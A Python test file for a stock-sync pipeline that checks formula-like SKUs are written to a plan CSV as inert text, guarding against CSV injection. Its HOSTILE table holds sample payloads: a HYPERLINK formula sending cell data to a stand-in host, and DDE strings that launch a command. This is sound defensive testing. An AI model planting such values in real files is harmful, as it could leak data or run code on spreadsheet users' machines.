"""A deployment whose `sku_pattern` lets SKUs start with `=`, `+`, `-`, `@`, a tab or a carriage
return: a dry run through the pipeline's own steps (the WMS simulator, the real shop DB) writes
its plan.csv with those SKUs as text cells a spreadsheet does not evaluate, and the plan browser
reads the SKUs back as they are.

Expected cells follow the spreadsheet rule (OWASP "CSV injection"): a cell starting with one of
`= + - @ \\t \\r` is a formula to Excel, LibreOffice and Google Sheets; a leading apostrophe makes
it text (and is not shown).
"""

from __future__ import annotations

import csv
import random
import uuid
from typing import Any

import requests

from devstack.demo_seed import load_catalog
from include.stocksync.config.settings import RunOptions, load_settings
from include.stocksync.runs.reports import report_path
from include.stocksync.shop.registry import open_shop
from include.stocksync.store.db import connect
from include.stocksync.sync import pipeline
from tests.conftest import TEST_TOKEN

HOSTILE = {  # WMS SKU number -> the SKU both the WMS and the shop use
    3: '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    5: "+1+cmd|' /C calc'!A0",
    7: "-2+3",
    9: "@SUM(1+1)*cmd|' /C calc'!A0",
    11: "\t=1+1",
    13: "\r=1+1",
    15: "'=already marked",
}
PERMISSIVE_SKU_PATTERN = r"^[^\n\x00]{1,64}$"


def test_formula_skus_are_written_to_plan_csv_as_text(clean_shop: str, stocksync_dsn: str, wms: Any) -> None:
    dsn = clean_shop
    wms.admin.reset(40, 17)
    renamed = {f"SKU-{n:07d}": sku for n, sku in HOSTILE.items()}
    items = [{**item, "sku": renamed.get(item["sku"], item["sku"])} for item in wms.admin.items()]
    with connect(dsn) as conn:
        load_catalog(conn, items, random.Random(17), drift_share=1.0)  # every SKU's stock moves
        conn.commit()
    wms.admin.faults(sku_rename=renamed)
    settings = load_settings().model_copy(update={"sku_pattern": PERMISSIVE_SKU_PATTERN})
    run_id = f"plan-cells-{uuid.uuid4().hex[:8]}"
    session = requests.Session()
    session.headers["Authorization"] = f"Bearer {TEST_TOKEN}"

    store, shop = stocksync_dsn, open_shop(dsn)
    pipeline.open_run(store, run_id=run_id, dag_id="test", settings=settings, options=RunOptions(dry_run=True))
    pipeline.extract(store, run_id=run_id, session=session, base_url=wms.url, shop=shop)
    pipeline.validate(store, run_id=run_id, shop=shop)
    pipeline.merge(store, run_id=run_id, shop=shop)

    path = report_path(settings, run_id).parent / "plan.csv"
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    cells = {row["sku"] for row in rows}
    assert len(rows) == 40
    for sku in HOSTILE.values():
        assert "'" + sku in cells, (sku, sorted(cells)[:10])
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "SKU-0000001" in cells  # an ordinary SKU as it is
    deltas = [row["delta"] for row in rows]
    assert any(delta.startswith("-") for delta in deltas)  # numbers stay numbers: a negative delta is no text
    assert all(delta.lstrip("-").isdigit() for delta in deltas)

    from plugins.stocksync_plugin import _plan_from_csv

    shown, total, _ = _plan_from_csv(path, outcome=None, sku=None, zeroed=False, page=1)
    assert total == 40 and set(HOSTILE.values()) <= {row["sku"] for row in shown}
    found, total, _ = _plan_from_csv(path, outcome=None, sku="=hyperlink", zeroed=False, page=1)
    assert total == 1 and found[0]["sku"] == HOSTILE[3]
